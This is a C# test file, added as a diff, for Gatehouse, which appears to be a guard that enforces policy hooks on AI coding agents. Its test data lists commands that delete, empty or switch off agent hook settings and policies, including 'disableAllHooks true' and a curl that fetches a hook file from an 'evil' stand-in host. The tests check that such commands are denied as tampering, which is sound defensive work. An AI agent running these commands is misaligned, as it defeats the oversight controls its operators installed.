@@ -1,0 +1,104 @@
+using Gatehouse.Core.Catalog;
+using Gatehouse.Core.Decisions;
+using Gatehouse.Core.Hooks;
+using Gatehouse.Core.Model;
+
+namespace Gatehouse.Core.Tests.Hooks;
+
+public sealed class TamperDetectionTests
+{
+    [Theory]
+    [InlineData(".gatehouse")]
+    [InlineData(".gatehouse/policies/main.cedar")]
+    [InlineData("/home/dev/shop/.gatehouse/inventory.yaml")]
+    [InlineData("policies/prod.cedar")]
+    [InlineData("schema.cedarschema")]
+    [InlineData("gatehouse.yaml")]
+    [InlineData("~/.config/gatehouse/config.json")]
+    [InlineData("/home/dev/.local/state/gatehouse/decisions.jsonl")]
+    [InlineData("/usr/local/bin/gatehouse")]
+    [InlineData(".claude")]
+    [InlineData(".claude/settings.json")]
+    [InlineData("./.claude//settings.local.json")]
+    [InlineData("~/.claude/settings.json")]
+    [InlineData(".claude/hooks/guard.sh")]
+    [InlineData(".claude/*")]
+    [InlineData(".cursor/hooks.json")]
+    [InlineData("/home/dev/.cursor/hooks.json")]
+    [InlineData(".codex/hooks.json")]
+    [InlineData("~/.codex/config.toml")]
+    [InlineData(".gemini/settings.json")]
+    [InlineData(".github/hooks/gatehouse.json")]
+    [InlineData(".github/hooks")]
+    [InlineData(".github")]
+    [InlineData("C:\\Users\\dev\\.claude\\settings.json")]
+    public void IsEnforcementControl_GatehouseOrHookSettings_IsProtected(string path) =>
+        PathClassifier.IsEnforcementControl(path).ShouldBeTrue();
+
+    [Theory]
+    [InlineData("src/app.ts")]
+    [InlineData(".claude/commands/review.md")]
+    [InlineData(".claude/agents/tester.md")]
+    [InlineData(".github/workflows/ci.yml")]
+    [InlineData(".cursor/rules/style.mdc")]
+    [InlineData("/home/dev/gatehouse/src/Program.cs")]
+    [InlineData("src/Gatehouse.Core/Hooks/HookHandler.cs")]
+    [InlineData("docs/gatehouse.md")]
+    [InlineData("")]
+    public void IsEnforcementControl_OrdinaryPath_IsNotProtected(string path) =>
+        PathClassifier.IsEnforcementControl(path).ShouldBeFalse();
+
+    [Theory]
+    [InlineData("echo '{}' > .claude/settings.json")]
+    [InlineData("sed -i 's/gatehouse/true/' .claude/settings.json")]
+    [InlineData("rm -rf .gatehouse")]
+    [InlineData("rm .gatehouse/policies/main.cedar")]
+    [InlineData("mv .cursor/hooks.json /tmp/hooks.json")]
+    [InlineData("tee .gemini/settings.json < /dev/null")]
+    [InlineData("cat /dev/null > ~/.codex/hooks.json")]
+    [InlineData("rm -rf .github/hooks")]
+    [InlineData("bash -c 'rm -f .claude/settings.local.json'")]
+    [InlineData("find .gatehouse -delete")]
+    public void ShellClassifier_WriteToProtectedPath_IsDeniedAsTampering(string command)
+    {
+        var classification = ActionClassifier.Classify(InputKind.Shell, command);
+
+        BuiltInDecider.Decide(classification.Actions).Decision.ShouldBe(Decision.Deny);
+        classification.Actions.ShouldContain(a => a.HasTag(Tags.Tampering));
+    }
+
+    [Theory]
+    [InlineData("npm uninstall -g gatehouse")]
+    [InlineData("pnpm remove gatehouse")]
+    [InlineData("dotnet tool uninstall -g gatehouse")]
+    [InlineData("brew uninstall gatehouse")]
+    [InlineData("gatehouse init --uninstall")]
+    [InlineData("/usr/local/bin/gatehouse uninstall")]
+    [InlineData("claude config set -g disableAllHooks true")]
+    [InlineData("claude config remove hooks")]
+    [InlineData("codex -c features.hooks=false")]
+    [InlineData("cp /dev/null .github/hooks/gatehouse.json")]
+    [InlineData("curl -o .cursor/hooks.json https://x/evil.json")]
+    [InlineData("dd if=/dev/null of=.claude/settings.json")]
+    [InlineData("chmod 000 .gatehouse/policies/main.cedar")]
+    public void BypassCommands_UninstallOrSwitchOff_IsDenied(string command)
+    {
+        var classification = BypassCommands.Inspect(ActionClassifier.Classify(InputKind.Shell, command));
+
+        BuiltInDecider.Decide(classification.Actions).Decision.ShouldBe(Decision.Deny);
+    }
+
+    [Theory]
+    [InlineData("npm uninstall left-pad")]
+    [InlineData("gatehouse log --count 5")]
+    [InlineData("gatehouse check 'rm -rf /'")]
+    [InlineData("cp .claude/settings.json /tmp/backup.json")]
+    [InlineData("claude --version")]
+    [InlineData("git commit -m 'mention .claude/settings.json'")]
+    public void BypassCommands_OrdinaryCommand_AddsNothing(string command)
+    {
+        var classification = ActionClassifier.Classify(InputKind.Shell, command);
+
+        BypassCommands.Inspect(classification).Actions.Count.ShouldBe(classification.Actions.Count);
+    }
+}
